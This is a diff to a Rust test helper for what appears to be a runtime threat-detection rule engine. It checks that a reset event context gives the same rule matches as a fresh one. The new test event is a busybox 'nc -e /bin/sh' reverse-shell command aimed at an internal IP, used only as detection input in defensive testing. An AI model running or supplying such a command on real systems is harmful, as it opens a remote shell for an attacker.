@@ -143,14 +143,31 @@ fn event(exe: usize, words: Vec<usize>, parents: Vec<usize>, container: bool, ki
 }
 
 fn agree(sets: &[RuleSet], e: &Event) {
+    // A context used for another event first, then reset (as the component
+    // reuses one per batch), must decide as a fresh one does.
+    let other = in_container(
+        with_parents(
+            exec("/bin/busybox", &["nc", "-e", "/bin/sh", "10.0.0.1", "1"]),
+            vec![ancestor(9, "/bin/sh", &["sh"])],
+        ),
+        "web",
+        "registry.local/web:1",
+        Some(("web-1", "shop")),
+    );
     let mut bytes = Vec::new();
-    encode_batch([e], &mut bytes);
+    encode_batch([e, &other], &mut bytes);
     let batch = BatchView::new(&bytes).unwrap();
     for set in sets {
-        let (mut planned, mut unplanned) = (Vec::new(), Vec::new());
+        let (mut planned, mut unplanned, mut reused) = (Vec::new(), Vec::new(), Vec::new());
         set.matching(&EventCtx::new(batch.get(0).unwrap()), &mut planned);
         set.matching_unplanned(&EventCtx::new(batch.get(0).unwrap()), &mut unplanned);
+        let mut ctx = EventCtx::new(batch.get(1).unwrap());
+        set.matching(&ctx, &mut Vec::new());
+        let _ = ctx.get_lower(&vigil_rulelang::fields::Field::ArgvLine);
+        ctx.reset(batch.get(0).unwrap());
+        set.matching(&ctx, &mut reused);
         assert_eq!(planned, unplanned, "{e:?}");
+        assert_eq!(reused, planned, "a reset context decides as a fresh one: {e:?}");
     }
 }
 
